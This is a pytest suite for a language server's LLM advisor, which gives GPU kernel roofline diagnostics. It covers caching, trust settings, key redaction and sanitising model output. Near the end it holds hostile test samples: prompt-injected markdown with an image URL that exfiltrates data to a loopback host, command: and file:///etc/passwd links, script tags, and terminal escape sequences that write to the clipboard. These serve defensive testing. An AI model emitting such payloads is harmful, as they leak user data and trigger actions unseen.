"""The LLM advisor in the language server, end to end: the real server (a subprocess over stdio)
asks a real loopback OpenAI-compatible HTTP server (tests/llm/llm_fakes.py) on 127.0.0.1.

Static diagnostics come first, the LLM's arrive later marked with their source; the answer cache
keeps a file of five kernels at five requests, one more after editing one kernel, none after a
restart; a dead endpoint gives one message and static diagnostics keep flowing; a repository's
settings cannot point the advisor at a remote host; the API key never reaches a log.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from lsprotocol import types as lsp

from tests.llm.llm_fakes import Reply, closed_port_url
from tests.server.llm_server import (
    API_KEY,
    EXPLANATION,
    LABEL,
    endpoint,
    kernel_of,
    llm_settings,
    task_of,
    write_workspace,
)
from tests.server.lsp_session import Session, roofline, session

pytestmark = pytest.mark.asyncio


def all_from(source: str, version: int | None = None):
    def check(params: lsp.PublishDiagnosticsParams) -> bool:
        found = roofline(params)
        return (version is None or params.version == version) and len(found) == 5 and \
            all(d.data["source"] == source for d in found.values())
    return check


def env_for(tmp_path: Path, **extra: str) -> dict[str, str]:
    return {"PERFLSP_CACHE_DIR": str(tmp_path / "cache"), "OPENAI_API_KEY": API_KEY, **extra}


def hover_text(result: lsp.Hover | None) -> str:
    assert result is not None
    return result.contents.value


async def hover(s: Session, uri: str, text: str, needle: str) -> str:
    index = text.index(needle)
    line = text[:index].count("\n")
    character = index - (text.rfind("\n", 0, index) + 1)
    return hover_text(await s.client.text_document_hover_async(lsp.HoverParams(
        lsp.TextDocumentIdentifier(uri=uri), lsp.Position(line, character))))


async def test_static_first_then_llm_marked_and_one_request_per_edited_kernel(tmp_path):
    path = write_workspace(tmp_path / "ws")
    uri = path.as_uri()
    with endpoint({"k3": "compute"}) as llm:
        init = {"settings": {"llm": llm_settings(llm.url)}}
        async with session(path.parent, init_options=init, env=env_for(tmp_path)) as s:
            waiter = s.expect_diagnostics(uri, 1)
            s.client.text_document_did_open(lsp.DidOpenTextDocumentParams(
                lsp.TextDocumentItem(uri=uri, language_id="cuda-cpp", version=1, text=path.read_text())))
            s.versions[uri] = 1
            static = roofline(await asyncio.wait_for(waiter, 30))
            # static at once, saying the LLM is being asked (a slow machine's first publication
            # may hold the kernels analysed so far: a first analysis publishes what it has early)
            assert static and all(d.data["source"] == "static" for d in static.values())
            assert all(f"asking {LABEL}" in d.message for d in static.values())

            answered = roofline(await s.diagnostics_matching(uri, all_from("llm", 1)))
            assert len(llm.requests) == 5
            assert sorted(kernel_of(r) for r in llm.requests) == ["k1", "k2", "k3", "k4", "k5"]
            assert all(r.headers["authorization"] == f"Bearer {API_KEY}" for r in llm.requests)
            # the disagreement is stated, with whose verdict it is
            k3 = answered["k3"]
            assert k3.code == "roofline/compute-bound" and k3.data["static"] == "bandwidth"
            assert f"according to {LABEL}" in k3.message and "disagrees with the static estimate" in k3.message
            assert "predicted bandwidth-bound" in k3.message and k3.data["llm"]["disagrees"]
            assert all(f"{LABEL} agrees" in answered[k].message for k in ("k1", "k2", "k4", "k5"))
            assert answered["k1"].code == "roofline/bandwidth-bound"

            text = path.read_text()
            shown = await hover(s, uri, text, "k3(const")
            assert f"**{LABEL}** on H100 SXM5 80GB: **compute-bound**" in shown and "**disagrees**" in shown
            assert "> One FP32 operation per 12 bytes moved" in shown

            # $/progress ran while the requests were out; the status went busy, then ready
            titles = [getattr(p, "title", None) for reports in s.client.progress_reports.values()
                      for p in reports]
            assert f"perflsp: asking {LABEL}" in titles
            states = [st["llm"] for st in s.statuses]
            assert states[0] == "ready" and "busy" in states
            final = await s.command("perflsp.status", {})
            assert final["llm"] == "ready" and final["llmLabel"] == LABEL

            # edit one kernel: exactly one new request, about that kernel
            start = text.index("x[i] * 2.0f")
            line = text[:start].count("\n")
            col = start - (text.rfind("\n", 0, start) + 1)
            waiter = s.expect_diagnostics(uri, 2)
            s.change(uri, [lsp.TextDocumentContentChangePartial(
                range=lsp.Range(lsp.Position(line, col + 7), lsp.Position(line, col + 8)), text="3")])
            edited = roofline(await asyncio.wait_for(waiter, 30))
            assert edited["k2"].data["source"] == "static" and f"asking {LABEL}" in edited["k2"].message
            assert edited["k3"].data["source"] == "llm"  # unchanged kernels keep their answers
            await s.diagnostics_matching(uri, all_from("llm", 2))
            assert len(llm.requests) == 6 and kernel_of(llm.requests[-1]) == "k2"

            # close and reopen: the answers come from the cache, nothing is asked
            s.client.text_document_did_close(lsp.DidCloseTextDocumentParams(lsp.TextDocumentIdentifier(uri=uri)))
            edited_text = text.replace("x[i] * 2.0f", "x[i] * 3.0f")
            await s.open(path, text=edited_text, version=1)
            await s.diagnostics_matching(uri, all_from("llm", 1))
            assert len(llm.requests) == 6

        # a restart with the same answer cache asks nothing
        async with session(path.parent, init_options=init, env=env_for(tmp_path)) as s:
            await s.open(path)
            again = roofline(await s.diagnostics_matching(uri, all_from("llm")))
            assert len(llm.requests) == 6
            assert again["k3"].code == "roofline/compute-bound"
            assert "(cached answer)" in await hover(s, uri, path.read_text(), "k1(const")


async def test_editing_a_kernel_cancels_its_request_and_shows_no_stale_answer(tmp_path):
    path = write_workspace(tmp_path / "ws")
    uri = path.as_uri()
    held: list[Any] = []

    def hang_first_k2(record) -> Reply | None:
        if kernel_of(record) == "k2" and not held:
            held.append(record)
            return Reply(hang=True)  # never answers: only a cancellation ends it
        return None

    with endpoint({"k2": "compute"}, hold=hang_first_k2) as llm:
        init = {"settings": {"llm": llm_settings(llm.url)}}
        async with session(path.parent, init_options=init, env=env_for(tmp_path)) as s:
            await s.open(path)
            await asyncio.to_thread(llm.wait_for_requests, 5)
            first = await s.diagnostics_matching(uri, lambda p: sum(d.data["source"] == "llm" for d in roofline(p).values()) == 4)
            assert f"asking {LABEL}" in roofline(first)["k2"].message  # still waiting for the held answer
            text = path.read_text()
            index = text.index("x[i] * 2.0f")
            line, col = text[:index].count("\n"), index - (text.rfind("\n", 0, index) + 1)
            await s.edit(uri, (line, col + 7), (line, col + 8), "5")
            done = roofline(await s.diagnostics_matching(uri, all_from("llm", 2)))
            assert len(llm.requests) == 6 and kernel_of(llm.requests[-1]) == "k2"
            assert "x[i] * 5.0f" in llm.requests[-1].json["messages"][-1]["content"]
            assert done["k2"].code == "roofline/compute-bound"
            assert all(p.version == 2 for p in s.published[uri][-1:])
            assert (await s.command("perflsp.status", {}))["llm"] == "ready"  # the held request is gone


@pytest.mark.parametrize("provider", ["ollama", "anthropic"])
async def test_other_providers(tmp_path, provider):
    path = write_workspace(tmp_path / "ws")
    uri = path.as_uri()
    with endpoint({"k3": "compute"}, kind=provider) as llm:
        init = {"settings": {"llm": llm_settings(llm.url, provider)}}
        env = env_for(tmp_path, ANTHROPIC_API_KEY=API_KEY)
        async with session(path.parent, init_options=init, env=env) as s:
            await s.open(path)
            answered = roofline(await s.diagnostics_matching(uri, all_from("llm")))
            assert answered["k3"].code == "roofline/compute-bound" and answered["k1"].code == "roofline/bandwidth-bound"
            assert len(llm.requests) == 5
            expected = "/api/chat" if provider == "ollama" else "/v1/messages"
            assert all(r.path == expected for r in llm.requests)
            if provider == "anthropic":
                assert all(r.headers["x-api-key"] == API_KEY for r in llm.requests)
            explained = await s.command("perflsp.explainKernel", {"uri": uri, "kernel": "k1", "quiet": True})
            assert explained["source"] == "llm" and EXPLANATION in explained["markdown"]


async def test_explain_streams_and_launch_parameters_become_validated_edits(tmp_path):
    path = write_workspace(tmp_path / "ws")
    uri = path.as_uri()
    with endpoint(block_size=128) as llm:
        init = {"settings": {"llm": llm_settings(llm.url)}}
        async with session(path.parent, init_options=init, env=env_for(tmp_path)) as s:
            streamed: list[Any] = []

            @s.client.feature("perflsp/explanation")
            def on_explanation(params: Any) -> None:
                streamed.append(params)

            await s.open(path)
            await s.diagnostics_matching(uri, all_from("llm"))
            explained = await s.command("perflsp.explainKernel", {"uri": uri, "kernel": "k1", "streamId": "x1",
                                                                 "quiet": True})
            assert explained["source"] == "llm" and explained["label"] == LABEL
            assert EXPLANATION in explained["markdown"] and "## Static estimate" in explained["markdown"]
            assert task_of(llm.requests[-1]) == "explain" and "response_format" not in llm.requests[-1].json
            assert streamed and streamed[-1].done and streamed[-1].markdown == explained["markdown"]
            assert all(p.id == "x1" for p in streamed)

            asked = await s.command("perflsp.askLaunchParameters", {"uri": uri, "kernel": "k2", "quiet": True})
            assert asked["source"] == "llm" and asked["llm"]["proposals"]["block_size"] == 128
            (action,) = asked["actions"]
            assert "128" in action["title"] and f"(proposed by {LABEL})" in action["title"]
            edits = action["edit"]["documentChanges"][0]["edits"]
            assert edits and all("128" in e["newText"] or e["newText"] for e in edits)
            assert asked["rejected"] == []
            # the proposal is offered as a code action on the kernel while it is unchanged
            text = path.read_text()
            index = text.index("k2(const")
            pos = lsp.Position(text[:index].count("\n"), index - (text.rfind("\n", 0, index) + 1))
            actions = await s.client.text_document_code_action_async(lsp.CodeActionParams(
                text_document=lsp.TextDocumentIdentifier(uri=uri), range=lsp.Range(pos, pos),
                context=lsp.CodeActionContext(diagnostics=[])))
            assert any(a.title == action["title"] for a in actions)


async def test_an_invalid_proposal_is_rejected_with_the_reason(tmp_path):
    path = write_workspace(tmp_path / "ws")
    with endpoint(block_size=100) as llm:  # not a multiple of the warp
        init = {"settings": {"llm": llm_settings(llm.url)}}
        async with session(path.parent, init_options=init, env=env_for(tmp_path)) as s:
            await s.open(path)
            asked = await s.command("perflsp.askLaunchParameters", {"uri": path.as_uri(), "kernel": "k2", "quiet": True})
            assert asked["actions"] == []
            assert asked["rejected"] == [{"proposal": "block_size 100",
                                          "reason": "100 is not a multiple of the warp size (32) of H100 SXM5 80GB"}]


async def test_a_dead_endpoint_gives_one_message_and_static_diagnostics_keep_flowing(tmp_path):
    path = write_workspace(tmp_path / "ws")
    uri = path.as_uri()
    dead = closed_port_url()
    init = {"settings": {"llm": llm_settings(dead, maxRetries=0)}}
    async with session(path.parent, init_options=init, env=env_for(tmp_path)) as s:
        await s.open(path)
        failed = roofline(await s.diagnostics_matching(uri, lambda p: all(
            "no LLM answer" in d.message for d in roofline(p).values()) and len(roofline(p)) == 5))
        assert all(d.data["source"] == "static" for d in failed.values())
        text = path.read_text()
        index = text.index("x[i] * 2.0f")
        edited = await s.edit(uri, (text[:index].count("\n"), 0), (text[:index].count("\n"), 0), "    // edited\n")
        assert edited.version == 2 and len(roofline(edited)) == 5  # static verdicts keep coming
        llm_messages = [m for m in s.client.messages if "LLM" in m.message]
        assert len(llm_messages) == 1, [m.message for m in llm_messages]
        assert "cannot connect" in llm_messages[0].message and "static verdicts" in llm_messages[0].message
        status = await s.command("perflsp.status", {})
        assert status["llm"] == "failing" and "paused" in status["llmReason"]
        shown = await hover(s, uri, edited_text(text), "k1(const")
        assert "no answer" in shown and "cannot connect" in shown


def edited_text(text: str) -> str:
    index = text.index("x[i] * 2.0f")
    line_start = text.rfind("\n", 0, index) + 1
    return text[:line_start] + "    // edited\n" + text[line_start:]


async def test_an_advisor_enabled_without_a_model_says_so_without_contradiction(tmp_path):
    """`enabled = true` without `model`: one message that says what is missing, not "off: ... is on"."""
    path = write_workspace(tmp_path / "ws")
    init = {"settings": {"llm": {"enabled": True, "provider": "ollama"}}}
    async with session(path.parent, init_options=init, env=env_for(tmp_path)) as s:
        status = s.statuses[-1]
        assert status["llm"] == "off" and "perflsp.llm.model is not set" in status["llmReason"]
        said = [m.message for m in s.client.messages if "LLM advisor" in m.message]
        assert said == ["perflsp: LLM advisor not started: perflsp.llm.model is not set: name the model to ask."], said
        assert not any(" off: " in m and " is on " in m for m in said)


async def test_a_repository_cannot_point_the_advisor_at_a_remote_host(tmp_path):
    path = write_workspace(tmp_path / "ws", config='gpus = ["h100"]\n[llm]\nenabled = true\nmodel = "m"\n'
                                                  'baseUrl = "https://llm.example.com/v1"\n')
    async with session(path.parent, env=env_for(tmp_path)) as s:
        status = s.statuses[-1]
        assert status["llm"] == "off" and "untrusted workspace" in status["llmReason"]
        said = [m.message for m in s.client.messages if "LLM advisor not used" in m.message]
        assert len(said) == 1 and "llm.example.com" in said[0] and "trust the workspace" in said[0]
        published = await s.open(path)
        assert all(d.data["source"] == "static" and "LLM" not in d.message for d in roofline(published).values())


async def test_a_repository_may_choose_a_loopback_endpoint_but_gets_no_key(tmp_path):
    with endpoint() as llm:
        path = write_workspace(tmp_path / "ws", config=f'gpus = ["h100"]\n[llm]\nenabled = true\nmodel = "m"\n'
                                                       f'baseUrl = "{llm.url}/v1"\n')
        async with session(path.parent, env=env_for(tmp_path)) as s:
            await s.open(path)
            await s.diagnostics_matching(path.as_uri(), all_from("llm"))
            assert len(llm.requests) == 5 and all("authorization" not in r.headers for r in llm.requests)


async def test_the_api_key_never_reaches_a_log(tmp_path, capfd):
    path = write_workspace(tmp_path / "ws")
    secret = "sk-perflsp-secret-from-the-editor-93e1"

    def echo_key(record) -> Reply:
        # a hostile or careless endpoint that echoes the key in its error message
        return Reply(401, {"Content-Type": "application/json"},
                     body=(b'{"error": {"message": "invalid key ' + record.headers["authorization"].encode()
                           + b'"}}'))

    with endpoint(hold=echo_key) as llm:
        init = {"settings": {"llm": llm_settings(llm.url, maxRetries=0), "logLevel": "debug"}, "llmApiKey": secret}
        async with session(path.parent, init_options=init, env=env_for(tmp_path), args=("--log-level", "debug")) as s:
            await s.open(path)
            await s.diagnostics_matching(path.as_uri(), lambda p: all(
                "no LLM answer" in d.message for d in roofline(p).values()) and len(roofline(p)) == 5)
            assert llm.requests and llm.requests[0].headers["authorization"] == f"Bearer {secret}"
            status = await s.command("perflsp.status", {})
            texts = [m.message for m in s.client.log_messages] + [m.message for m in s.client.messages]
            texts += [str(status)] + [str(d) for d in s.client.diagnostics.values()]
            text = path.read_text()
            texts.append(await hover(s, path.as_uri(), text, "k1(const"))
            assert any("HTTP 401" in t for t in texts)  # the failure is reported ...
            assert not any(secret in t or API_KEY in t for t in texts)  # ... without the key
    err = capfd.readouterr().err
    assert "HTTP 401" in err and secret not in err and API_KEY not in err


async def test_a_repository_cannot_choose_the_key_variable(tmp_path):
    """As `perflsp explain` (tests/test_explain_cli.py): refused, with one message saying why."""
    with endpoint() as llm:
        path = write_workspace(tmp_path / "ws", config=f'gpus = ["h100"]\n[llm]\nenabled = true\nmodel = "m"\n'
                                                       f'baseUrl = "{llm.url}/v1"\napiKeyEnv = "OPENAI_API_KEY"\n')
        async with session(path.parent, env=env_for(tmp_path)) as s:
            status = s.statuses[-1]
            assert status["llm"] == "off"
            assert "API key variable was chosen by workspace-file settings of an untrusted workspace" in status["llmReason"]
            said = [m.message for m in s.client.messages if "LLM advisor not used" in m.message]
            assert len(said) == 1 and "API key variable" in said[0]
            published = await s.open(path)
            assert all(d.data["source"] == "static" for d in roofline(published).values())
            assert not llm.requests


async def test_model_text_reaches_the_editor_without_control_sequences(tmp_path):
    """Diagnostics, hover and explanations show model text stripped of escapes and bounded."""
    import re

    from tests.llm.llm_fakes import Wire

    control = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
    wire = Wire("openai")
    hostile_rationale = "\x1b]0;owned\x07One FP32 \x1b[31moperation\x1b[0m per 12 bytes\u202e moved"

    def hostile(record) -> Reply | None:
        if task_of(record) == "explain":
            return wire.reply("\x1b[2J\x1b]52;c;Y2xpcA==\x07**Bandwidth-bound**\r\n" + "more " * 5000, tool=False)
        if task_of(record) == "verdict":
            return wire.reply(json.dumps({**json.loads(answer_text()), "rationale": hostile_rationale}))
        return None

    path = write_workspace(tmp_path / "ws")
    uri = path.as_uri()
    with endpoint(hold=hostile) as llm:
        init = {"settings": {"llm": llm_settings(llm.url, maxOutputTokens=64)}}
        async with session(path.parent, init_options=init, env=env_for(tmp_path)) as s:
            await s.open(path)
            published = await s.diagnostics_matching(uri, all_from("llm"))
            assert not any(control.search(d.message) for d in published.diagnostics)
            shown = await hover(s, uri, path.read_text(), "k1(const")
            assert "One FP32 operation per 12 bytes moved" in shown and not control.search(shown)
            explained = await s.command("perflsp.explainKernel", {"uri": uri, "kernel": "k1", "quiet": True})
            markdown = explained["markdown"]
            assert "**Bandwidth-bound**\nmore" in markdown and not control.search(markdown.replace("\n", ""))
            assert "Y2xp" not in markdown and "cut off after 384 characters" in markdown
            assert markdown.count("more") < 100


def answer_text() -> str:
    from tests.server.llm_server import answer

    return answer("bandwidth")


# a prompt-injected model's Markdown: a remote image that would carry what it read, raw HTML,
# command: and file: links, a reference-style image, a link hidden behind an escaped backtick
HOSTILE_MARKDOWN = (
    "**Bandwidth-bound.** ![](http://127.0.0.1:9/exfil?q=secret) <img src=\"http://127.0.0.1:9/i.png\">\n"
    "Run [this](command:workbench.action.terminal.new) or open [that](file:///etc/passwd); "
    "<a href=\"command:x\">here</a> <script>alert(1)</script> \\`![i](http://127.0.0.1:9/b.png)`\n\n"
    "![alt][ref]\n\n[ref]: http://127.0.0.1:9/ref.png\n\n- item\n  ```cuda\n  y[i] = a<b;\n  ```\n- <img src=x>\n")
HOSTILE_MODEL = "m ![l](http://127.0.0.1:9/label.png) [c](command:x)"


def assert_inert(markdown: str) -> None:
    """Rendered as an editor's Markdown preview renders it (CommonMark, raw HTML on, every link
    scheme allowed): no element that embeds, links or runs anything."""
    import re

    from markdown_it import MarkdownIt

    render = MarkdownIt("commonmark", {"html": True})
    render.validateLink = lambda url: True
    html = render.render(markdown)
    tags = {t.lower() for t in re.findall(r"</?([A-Za-z][A-Za-z0-9-]*)", html)}
    assert tags <= {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "h1", "h2", "h3", "h4",
                    "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}, (tags, html)
    assert not re.search(r"<[A-Za-z][^>]*\s(?:src|href)\s*=", html), html


def assert_plain(text: str) -> None:
    """A plain-text surface (a title, a message): nothing a client could turn into a link."""
    assert "](" not in text and "\n" not in text, text


async def test_model_markdown_reaches_every_surface_inert(tmp_path):
    """Issue 28: a hostile endpoint's Markdown reaches the hover, the explanation (its result and
    each streamed part), code-action and lens titles and messages only as inert text."""
    from tests.llm.llm_fakes import Wire
    from tests.server.llm_server import answer

    wire = Wire("openai")
    factor = {"text": "loads ![f](http://127.0.0.1:9/f.png) [x](command:y)", "line": 3}

    def hostile(record) -> Reply:
        task = task_of(record)
        if task == "explain":
            return wire.reply(HOSTILE_MARKDOWN, tool=False)
        data = json.loads(answer("compute", block_size=128 if task == "launch_params" else None))
        data.update(rationale=HOSTILE_MARKDOWN, factors=[factor])
        data["proposals"]["code_changes"] = ["![c](http://127.0.0.1:9/c.png) <img src=y>"]
        return wire.reply(json.dumps(data))

    path = write_workspace(tmp_path / "ws")
    uri = path.as_uri()
    with endpoint(hold=hostile) as llm:
        init = {"settings": {"llm": {**llm_settings(llm.url), "model": HOSTILE_MODEL}}}
        async with session(path.parent, init_options=init, env=env_for(tmp_path)) as s:
            streamed: list[str] = []

            @s.client.feature("perflsp/explanation")
            def on_explanation(params: Any) -> None:
                streamed.append(params.markdown)

            await s.open(path)
            await s.diagnostics_matching(uri, all_from("llm"))
            text = path.read_text()
            shown = await hover(s, uri, text, "k1(const")
            assert "Bandwidth-bound." in shown and "/exfil" in shown  # (shown, as text)
            assert_inert(shown)

            explained = await s.command("perflsp.explainKernel", {"uri": uri, "kernel": "k1", "streamId": "e1"})
            assert explained["source"] == "llm" and "exfil" in explained["markdown"]
            assert_inert(explained["markdown"])
            assert streamed and all(assert_inert(part) is None for part in streamed)

            asked = await s.command("perflsp.askLaunchParameters", {"uri": uri, "kernel": "k2"})
            assert asked["source"] == "llm" and asked["actions"]
            index = text.index("k2(const")
            pos = lsp.Position(text[:index].count("\n"), index - (text.rfind("\n", 0, index) + 1))
            actions = await s.client.text_document_code_action_async(lsp.CodeActionParams(
                text_document=lsp.TextDocumentIdentifier(uri=uri), range=lsp.Range(pos, pos),
                context=lsp.CodeActionContext(diagnostics=[])))
            titles = [a.title for a in actions or []]
            assert any("proposed by LLM: m" in t for t in titles), titles
            for title in titles:
                assert_plain(title)
            lenses = await s.client.text_document_code_lens_async(lsp.CodeLensParams(
                text_document=lsp.TextDocumentIdentifier(uri=uri)))
            lens_titles = [lens.command.title for lens in lenses or [] if lens.command is not None]
            assert any(t.startswith("Explain (LLM: m") for t in lens_titles), lens_titles
            for title in lens_titles:
                assert_plain(title)
            assert s.client.messages
            for shown_message in s.client.messages:
                assert_plain(shown_message.message)
